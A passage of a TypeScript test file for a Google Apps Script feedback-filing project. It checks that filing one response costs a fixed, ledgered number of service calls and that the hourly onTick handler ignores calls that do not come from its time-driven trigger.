  // 2,000 rows already in Feedback (nothing is read from Feedback but its header row; the key is
  // looked up by a TextFinder). Since issue 12 (defect 7) the response is also listed for the
  // catch-up in document properties (one write, and the service looked up again for it: 2 calls),
  // so that a Feedback row the owner deletes before the next tick stays deleted.
  const LEDGER_PER_RESPONSE = {
    'SpreadsheetApp.flush': 1, // before the lock is released
    'Lock.releaseLock': 1,
    'Lock.tryLock': 1,
    'LockService.getDocumentLock': 1,
    'PropertiesService.getDocumentProperties': 2,
    'Properties.getProperties': 1,
    'Properties.setProperties': 1,
    'SpreadsheetApp.getActiveSpreadsheet': 1,
    'Range.getSheet': 1,
    'Range.getRow': 1,
    'Sheet.getSheetId': 1,
    'Sheet.getName': 1,
    'Spreadsheet.getSheetById': 3,
    'Sheet.getLastColumn': 1,
    'Sheet.getRange': 3,
    'Range.getDisplayValues': 1,
    'Sheet.getLastRow': 1,
    'Range.createTextFinder': 1,
    'TextFinder.matchCase': 1,
    'TextFinder.matchEntireCell': 1,
    'TextFinder.findNext': 1,
    'Range.getValues': 3,
    'Spreadsheet.getSpreadsheetTimeZone': 1,
    'Spreadsheet.getId': 1,
    'Sheet.getDataRange': 2,
    'Sheet.getMaxRows': 1,
    'Range.setNumberFormats': 1,
    'Range.setValues': 1,
  };

  it.each([10, 2000])('files one response at a constant cost in service calls, with %i rows in Feedback', (existing) => {
    const { ws, groups: gs, code } = withForm(20);
    ws.ledger.untracked(() => {
      const sheet = ws.spreadsheet.getSheetByName('Feedback')!;
      if (existing + 1 > sheet.getMaxRows()) sheet.insertRowsAfter(sheet.getMaxRows(), existing + 1 - sheet.getMaxRows() + 10);
      const rows = Array.from({ length: existing }, (_, i) => FEEDBACK.columns.map((c) => (c.header === 'Key' ? `Old responses!${i + 2}` : c.header === 'Email' ? `old${i}@example.com` : '')));
      sheet.getRange(2, 1, existing, rows[0].length).setValues(rows);
    });
    const [d] = respond(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] });
    ws.ledger.reset();
    expect(deliver(ws, d)).toMatchObject({ status: 'added', row: existing + 2 });
    const counts = ws.ledger.snapshot();
    if (existing === 10) console.log(`The ledger per response (${ws.ledger.count()} calls):\n${JSON.stringify(counts, null, 2)}`);
    expect(counts).toEqual(Object.fromEntries(Object.entries(LEDGER_PER_RESPONSE).sort(([a], [b]) => (a < b ? -1 : 1))));
    expect(ws.ledger.count()).toBe(Object.values(LEDGER_PER_RESPONSE).reduce((a, b) => a + b, 0));
    expect(feedback(ws)).toHaveLength(existing + 1);
  });
});

// ---- The hourly tick ---------------------------------------------------------------------------------

describe('onTick', () => {
  it('does nothing unless its time-driven trigger calls it (google.script.run can call it too)', () => {
    const { ws, groups: gs, code } = withForm();
    const [d] = respond(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] });
    ws.otherExecution.holdDocumentLock();
    expect(() => deliver(ws, d)).toThrow(UserError);
    ws.otherExecution.releaseDocumentLock();
    ws.ledger.reset();
    for (const e of [undefined, null, 'tick', 42, {}, { triggerUid: 42 }, { triggerUid: null }, [{ triggerUid: '1' }]]) {
      expect(execution(ws, () => onTick(e as never))).toBeUndefined();
    }
    expect(ws.ledger.count()).toBe(0);
    expect(feedback(ws)).toHaveLength(0);
    tick(ws);
    expect(feedback(ws)).toHaveLength(1);
  });
});
